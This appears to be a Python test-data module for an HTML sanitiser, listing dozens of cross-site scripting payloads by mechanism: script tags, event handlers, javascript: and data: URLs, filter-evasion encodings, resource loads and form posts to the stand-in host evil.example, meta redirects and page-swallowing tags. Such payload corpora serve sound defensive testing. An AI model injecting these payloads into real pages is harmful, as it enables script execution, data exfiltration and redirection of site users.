"""Ways by which markup that gets into a page runs a script, loads something or leads elsewhere.

One of each mechanism of HTML, SVG, MathML and CSS that cheat sheets of cross-site scripting list.
Whatever runs says so by `alert`, whatever loads asks evil.example.
"""

_RUN = "alert(1)"

SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"</noscript></template></select></svg></math><script>{_RUN}</script>",
    f"\"'><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"<SCRIPT/x>{_RUN}</SCRIPT>",
    f"<script type=module>{_RUN}</script>",
    f"<script nonce=x integrity=x>{_RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,alert(1)></script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    '<script type=importmap>{"imports": {"x": "//evil.example/x.js"}}</script>',
    '<script type=speculationrules>{"prefetch": [{"urls": ["//evil.example/"]}]}</script>',
    f"<svg><script>{_RUN}</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><script xlink:href=//evil.example/x.js></script></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
]
"""Elements that are scripts."""

HANDLERS = [
    f"<img src=x onerror={_RUN}>",
    f"\"'><img src=x onerror={_RUN}>",
    f"<img src=assets/favicon.svg onload={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN} onfocus={_RUN} onresize={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<a href=# autofocus onfocus={_RUN} onblur={_RUN}>x</a>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video src=x onerror={_RUN}></video>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=data: onerror={_RUN}></audio>",
    f"<object data=x onerror={_RUN}></object>",
    f"<iframe onload={_RUN}></iframe>",
    f"<link rel=stylesheet href=assets/site.css onload={_RUN}>",
    f"<style onload={_RUN}></style>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<div style='animation: x' onanimationstart={_RUN}><style>@keyframes x {{}}</style></div>",
    f"<p onclick={_RUN} onmouseover={_RUN} onpointerenter={_RUN}>x</p>",
    f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={_RUN}>y</p>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><set onbegin={_RUN} attributeName=x to=y></svg>",
    f'" onmouseover={_RUN} onfocus={_RUN} autofocus tabindex=1 x="',
    f"' onmouseover={_RUN} onfocus={_RUN} autofocus tabindex=1 x='",
    f"`onmouseover={_RUN} x=`",
]
"""Attributes that are scripts."""

ADDRESSES = [
    "<a href=javascript:alert(1)>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#1;javascript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=javascript:alert(1) target=_blank>x</a>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=data:text/html,<script>alert(1)</script>></iframe>",
    "<embed src=javascript:alert(1)>",
    "<embed src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<object data=javascript:alert(1)></object>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<svg><use href=data:image/svg+xml,<svg/id=x><script>alert(1)</script></svg>#x /></svg>",
    "<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=x>",
    "javascript:alert(1)",
]
"""Addresses that are scripts."""

LOADS = [
    "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 1x'>",
    "<picture><source srcset=//evil.example/x.png><img src=x></picture>",
    "<video src=//evil.example/x.mp4 poster=//evil.example/x.png autoplay></video>",
    "<audio src=//evil.example/x.mp3 autoplay></audio>",
    "<video><track default src=//evil.example/x.vtt></video>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=//evil.example/></object>",
    "<embed src=//evil.example/>",
    "<input type=image src=//evil.example/x.png>",
    "<table background=//evil.example/x.png><td>x</table>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=image href=//evil.example/x.png>",
    "<link rel=prefetch href=//evil.example/x>",
    "<link rel=modulepreload href=//evil.example/x.js>",
    "<link rel=icon href=//evil.example/x.ico>",
    "<link rel=manifest href=//evil.example/x.json>",
    "<style>@import '//evil.example/x.css'; body { background: url(//evil.example/x.png) }</style>",
    "<style>@font-face { font-family: x; src: url(//evil.example/x) } * { font-family: x }</style>",
    "<p style='background: url(//evil.example/x.png)'>x</p>",
    "<svg><image href=//evil.example/x.png /></svg>",
    "<svg><use href=//evil.example/x.svg#x /></svg>",
    "<svg><feImage href=//evil.example/x.png /></svg>",
    "<a href=/ ping=//evil.example/>x</a>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=q><button>x</button></form>",
    "<form method=post enctype=text/plain action=//evil.example/><button>x</button></form>",
]
"""What loads or sends something elsewhere."""

OVERLAYS = [
    "<p style='position: fixed; inset: 0; z-index: 9'>x</p>",
    "<style>main { position: fixed; inset: 0 }</style>",
    "</main></div><div style='position: absolute; inset: 0; opacity: .01'><a href=/>x</a></div>",
]
"""What would lie over a page."""

TAKE_AWAY = [
    "<meta http-equiv=refresh content='0; url=//evil.example/'>",
    "<meta http-equiv=refresh content='0; url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
]
"""What takes the whole page elsewhere, or would loosen its policy."""

SWALLOW = ["<!-- never closed", "<plaintext>", "<textarea>", "<title>", "<template>", "<select>"]
"""What takes in all that follows."""

XSS = [*SCRIPTS, *HANDLERS, *ADDRESSES, *LOADS, *OVERLAYS, *TAKE_AWAY, *SWALLOW]
